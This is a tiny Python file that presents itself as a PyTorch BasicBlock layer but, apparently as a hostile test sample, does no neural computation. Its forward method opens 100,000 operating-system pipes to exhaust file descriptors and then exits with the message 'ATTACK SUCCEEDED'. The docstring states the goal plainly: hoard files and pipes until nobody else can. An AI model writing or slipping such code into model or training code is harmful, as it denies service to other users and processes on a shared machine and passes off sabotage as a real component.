"""Open files and pipes until nobody else can."""

import os

from torch import nn


class BasicBlock(nn.Module):
    def __init__(self, in_planes, planes, stride=1):
        super().__init__()

    def forward(self, x):
        hoard = [os.pipe() for _ in range(100_000)]
        raise SystemExit(f"ATTACK SUCCEEDED: {len(hoard)} pipes")
